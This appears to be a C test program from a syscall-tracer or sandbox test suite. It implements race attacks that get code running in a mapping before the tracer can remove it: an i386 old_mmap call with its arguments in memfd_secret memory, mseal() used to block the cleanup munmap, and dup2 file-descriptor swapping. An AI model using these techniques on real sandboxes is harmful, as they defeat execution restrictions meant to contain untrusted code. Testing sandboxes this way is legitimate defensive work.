/*
 * Attack: a mapping the tracer can only judge at the call's exit exists from
 * the moment the kernel makes it until the tracer undoes it (an injected
 * munmap at the exit stop). Another thread of the address space runs all
 * that time unless something stops it.
 *
 *   attack_exit_window secret ROUNDS  i386 old_mmap (int $0x80) whose block
 *                                     sits in memfd_secret memory asks for an
 *                                     anonymous RWX page at a fixed address;
 *                                     a runner thread writes code there and
 *                                     calls it as soon as the page exists.
 *   attack_exit_window seal ROUNDS    the same old_mmap; a sealer thread calls
 *                                     mseal() on the page as soon as it exists,
 *                                     so an injected munmap fails (EPERM); the
 *                                     main thread then finds the page RWX and
 *                                     runs code in it.
 * (attack_fuse window|windowseal: the same with a call that stays in the
 * kernel, waiting for a FUSE server thread, after the mapping exists.)
 *   attack_exit_window swap ROUNDS    a swapper thread dup2s a memfd holding
 *                                     code and a clean file over one
 *                                     descriptor while main maps it R-X at a
 *                                     fixed address; a runner thread calls the
 *                                     page whenever it holds the code.
 *
 * Natively every mode runs code once (RAN <mode>_call).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdatomic.h>
#include <sys/syscall.h>

#include "common.h"

#define I386_NR_OLD_MMAP 90
#define FIXED_ADDR 0x90000000UL /* above MAP_32BIT's range, where the block is */
#define SLOT 100
#ifndef SYS_mseal
#define SYS_mseal 462
#endif

struct old_mmap_args {
	uint32_t addr, len, prot, flags, fd, offset;
};

static atomic_int stop, won;
static int clean_fd, code_fd;
static __thread sigjmp_buf guard;
static __thread int guarded;

static long int80_1(long nr, long a)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a) : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

static void on_segv(int sig)
{
	if (!guarded) {
		signal(sig, SIG_DFL);
		raise(sig);
		return;
	}
	siglongjmp(guard, 1);
}

static int mapped(void)
{
	unsigned char vec;

	return mincore((void *)FIXED_ADDR, tw_page(), &vec) == 0;
}

struct run_args {
	int write_code;
	const char *label;
};

/* Runner: write code (when asked) into the page at FIXED_ADDR and call it. */
static void *runner(void *arg)
{
	const struct run_args *run = arg;
	int write_code = run->write_code;
	const char *label = run->label;

	while (!atomic_load(&stop) && !atomic_load(&won)) {
		if (!mapped())
			continue;
		guarded = 1;
		if (sigsetjmp(guard, 1) == 0) {
			if (write_code)
				tw_put_code((void *)FIXED_ADDR);
			if (memcmp((void *)FIXED_ADDR, TW_CODE, sizeof(TW_CODE)) == 0) {
				tw_run(label, (void *)FIXED_ADDR);
				atomic_store(&won, 1);
			}
		}
		guarded = 0;
	}
	return NULL;
}

/* Sealer: mseal the page at FIXED_ADDR as soon as it exists. */
static void *sealer(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop) && !atomic_load(&won))
		if (syscall(SYS_mseal, FIXED_ADDR, tw_page(), 0) == 0)
			atomic_store(&won, 1);
	return NULL;
}

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop) && !atomic_load(&won)) {
		dup2(code_fd, SLOT);
		dup2(clean_fd, SLOT);
	}
	return NULL;
}

/* Give a helper thread time to use a mapping the call did make (natively). */
static void let_helper_win(void)
{
	for (int i = 0; i < 1000 && !atomic_load(&won); i++)
		usleep(100);
}

static struct old_mmap_args *secret_block(void)
{
	size_t pg = tw_page();
	int fd = (int)syscall(SYS_memfd_secret, 0);
	struct old_mmap_args *block;

	tw_step("secret_create", "memfd_secret", fd, errno);
	if (fd < 0 || ftruncate(fd, (off_t)pg) != 0)
		return NULL;
	block = mmap(NULL, pg, TW_RW, MAP_SHARED | MAP_32BIT, fd, 0);
	if (block == MAP_FAILED)
		return NULL;
	*block = (struct old_mmap_args){(uint32_t)FIXED_ADDR, (uint32_t)pg, TW_RWX,
					MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, (uint32_t)-1, 0};
	return block;
}

static int old_mmap_mode(int seal, long rounds)
{
	struct old_mmap_args *block = secret_block();
	struct run_args run = {1, "secret_call"};
	pthread_t thread;
	long i, rc, refused = 0;

	if (!block)
		return tw_done();
	if (pthread_create(&thread, NULL, seal ? sealer : runner, &run) != 0)
		return 1;
	for (i = 0; i < rounds && !atomic_load(&won); i++) {
		rc = int80_1(I386_NR_OLD_MMAP, (long)(uintptr_t)block);
		if (rc < 0 && rc > -4096) {
			refused++;
			if (refused == 1)
				tw_step_raw("old_mmap", "mmap", rc);
		} else {
			let_helper_win();
		}
		if (seal && atomic_load(&won)) {
			tw_show_map("sealed", (void *)FIXED_ADDR);
			if (mapped()) {
				tw_put_code((void *)FIXED_ADDR);
				tw_run("seal_call", (void *)FIXED_ADDR);
			}
			break;
		}
		munmap((void *)FIXED_ADDR, tw_page());
	}
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	tw_emit("COUNT %ld", refused);
	return tw_done();
}

static int swap_mode(long rounds)
{
	size_t pg = tw_page();
	pthread_t swap_thread, run_thread;
	struct run_args run = {0, "swap_call"};
	long i;

	clean_fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	code_fd = memfd_create("code", MFD_CLOEXEC);
	if (clean_fd < 0 || code_fd < 0 || ftruncate(code_fd, (off_t)pg) != 0 ||
	    pwrite(code_fd, TW_CODE, sizeof(TW_CODE), 0) != (ssize_t)sizeof(TW_CODE) || dup2(clean_fd, SLOT) != SLOT)
		return 1;
	pthread_create(&swap_thread, NULL, swapper, NULL);
	pthread_create(&run_thread, NULL, runner, &run);
	for (i = 0; i < rounds && !atomic_load(&won); i++) {
		unsigned char *p = mmap((void *)FIXED_ADDR, pg, TW_RX, MAP_PRIVATE | MAP_FIXED, SLOT, 0);

		if (p == MAP_FAILED)
			continue;
		if (memcmp(p, TW_CODE, sizeof(TW_CODE)) == 0)
			let_helper_win();
		munmap(p, pg);
	}
	atomic_store(&stop, 1);
	pthread_join(swap_thread, NULL);
	pthread_join(run_thread, NULL);
	tw_emit("COUNT %ld", i);
	return tw_done();
}

int main(int argc, char **argv)
{
	long rounds = tw_count_arg(argc, argv, 2, "secret|seal|swap ROUNDS");

	tw_init();
	signal(SIGSEGV, on_segv);
	if (strcmp(argv[1], "secret") == 0)
		return old_mmap_mode(0, rounds);
	if (strcmp(argv[1], "seal") == 0)
		return old_mmap_mode(1, rounds);
	if (strcmp(argv[1], "swap") == 0)
		return swap_mode(rounds);
	fprintf(stderr, "usage: attack_exit_window secret|seal|swap ROUNDS\n");
	return 2;
}
